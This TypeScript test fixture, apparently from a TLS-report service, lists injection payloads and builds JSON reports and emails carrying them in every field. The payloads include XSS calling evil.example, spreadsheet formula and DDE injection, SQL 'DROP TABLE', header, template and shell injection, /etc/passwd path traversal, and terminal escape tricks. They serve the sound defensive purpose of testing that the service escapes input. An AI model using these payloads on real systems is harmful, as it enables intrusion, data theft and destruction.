// Texts that are harmful where they are not treated as text: in HTML, CSV, logs, headers, SQL, templates and
// on terminals. Each that runs as a script says so by setting `pwned` on the window.

const RUN = "window.pwned=1;alert(1);fetch('https://evil.example/x')";

export const PAYLOADS: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  "script-end": `</script><script>${RUN}</script>`,
  image: `<img src=x onerror="${RUN}">`,
  "image-outside": '<img src="https://evil.example/pixel.png">',
  svg: `<svg/onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  "double-quote": `" autofocus onfocus="${RUN}" x="`,
  "single-quote": `' autofocus onfocus='${RUN}' x='`,
  "no-quote": `x onmouseover=${RUN}`,
  "tag-end": `"><svg><script>${RUN}</script>`,
  "title-end": `</title></style></textarea></select></option><script>${RUN}</script>`,
  style: "<style>body{display:none}@import url(https://evil.example/x.css)</style>",
  link: '<link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/">',
  frame: `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  form: '<form action="https://evil.example/"><button>Log in</button></form>',
  refresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "javascript-url": `javascript:${RUN}`,
  "data-url": "data:text/html,<script>parent.pwned=1</script>",
  "markdown-link": `[x](javascript:${RUN})`,
  comment: `--><script>${RUN}</script><!--`,
  cdata: `]]><script>${RUN}</script>`,
  entities: "&lt;script&gt;&#60;&amp;amp;&nbsp;",
  utf7: "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "half-tag": "<scr\u0000ipt>\u2028window.pwned=1\u2029",
  polyglot: `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.pwned=1//>`,
  formula: "=1+1",
  hyperlink: '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  dde: "=cmd|'/C calc'!A0",
  pipe: "|calc",
  "tab-formula": "\t=1+1",
  "return-formula": "\r=1+1",
  "line-formula": "x\r\n=1+1",
  "blank-formula": "  =1+1",
  "quote-formula": '"=1+1',
  "quoted-end-formula": 'x",=1+1,"',
  "semicolon-formula": "x;=1+1;@y",
  "fullwidth-formula": "＝1＋1",
  "fullwidth-plus": "＋1",
  "fullwidth-minus": "－1",
  "fullwidth-at": "＠SUM",
  "zero-width-formula": "\u200b=1+1",
  "ansi-clear": "\u001b[2J\u001b[1;31mred",
  "osc-title": "\u001b]0;title\u0007\u001b]8;;https://evil.example\u001b\\link",
  "osc-clipboard": "\u001b]52;c;ZXZpbA==\u0007",
  c1: "\u009b2J\u009d0;t\u009c\u0085x",
  bell: "\u0007\u0008\u007f",
  bidi: "moc.\u202eelpmaxe\u202d\u202a\u202b\u202c",
  isolates: "a\u2066b\u2067c\u2068d\u2069e\u061c",
  "zero-width": "a\u200bb\u200cc\u2060d\ufeffe\u00adf",
  tags: "a\u{e0041}\u{e0042}b",
  "fake-line":
    '\n{"level":"error","event":"store-down"}\r\n2026-01-01T00:00:00.000Z ERROR fake: line',
  header: "x\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.pwned=1</script>",
  disposition: '"; filename="x.html"; y="',
  sql: "'; DROP TABLE reports; --",
  "sql-parameter": "\\' OR 1=1 {tenants:Array(String)} --",
  template: "$\u007b7*7}{{7*7}}<%= 7*7 %>#{7*7}{{constructor.constructor('alert(1)')()}}",
  path: "../../../../etc/passwd\u0000.json",
  shell: "$(touch pwned);`touch pwned`|touch pwned&",
  prototype: "__proto__",
  constructor: "constructor",
  surrogate: "a\ud800b\udfffc",
  long: `<b>${"x".repeat(4_000)}</b>`,
  format: "%s%n%x%d{0}",
};

/** Every text field of a report with the payload in it, and numbers that can be counted. */
export function payloadReport(text: string, day: string): string {
  const body = {
    "organization-name": text,
    "date-range": { "start-datetime": `${day}T00:00:00Z`, "end-datetime": `${day}T23:59:59Z` },
    "contact-info": text,
    "report-id": text,
    policies: [
      {
        policy: {
          "policy-type": text,
          "policy-string": [text],
          "policy-domain": text,
          "mx-host": [text],
        },
        summary: { "total-successful-session-count": 1, "total-failure-session-count": 2 },
        "failure-details": [
          {
            "result-type": text,
            "sending-mta-ip": text,
            "receiving-mx-hostname": text,
            "receiving-mx-helo": text,
            "receiving-ip": text,
            "failed-session-count": 2,
            "additional-information": text,
            "failure-reason-code": text,
          },
        ],
      },
    ],
  };
  return JSON.stringify(body);
}

/** A mail whose header fields hold the payload as encoded words, so that nothing of it gets lost. */
export function payloadMail(text: string, parts: { report: string | null }): Buffer {
  const word = `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
  const raw = text.replaceAll(/[\r\n\0]/g, " ");
  const name = `utf-8''${encodeURIComponent(text.toWellFormed()).replaceAll("'", "%27")}`;
  const lines = [
    `From: ${word} <tls-reports@sender.example>`,
    `To: ${word} <tlsrpt@example.com>`,
    `Subject: ${word}`,
    `Message-ID: <${raw}>`,
    `User-Agent: ${raw}`,
    `TLS-Report-Domain: ${raw}`,
    `TLS-Report-Submitter: ${raw}`,
    `DKIM-Signature: v=1; a=rsa-sha256; d=${raw}; s=${raw}; h=from; bh=x; b=y`,
    "MIME-Version: 1.0",
    'Content-Type: multipart/report; report-type="tlsrpt"; boundary="=_b"',
    "",
    "--=_b",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "A report.",
  ];
  const report = [
    "--=_b",
    "Content-Type: application/tlsrpt+json",
    "Content-Transfer-Encoding: base64",
    `Content-Disposition: attachment; filename*=${name}`,
    "",
    Buffer.from(parts.report ?? "")
      .toString("base64")
      .replace(/.{76}/g, "$&\r\n"),
  ];
  const all = [...lines, ...(parts.report === null ? [] : report), "--=_b--", ""];
  return Buffer.from(all.join("\r\n"));
}
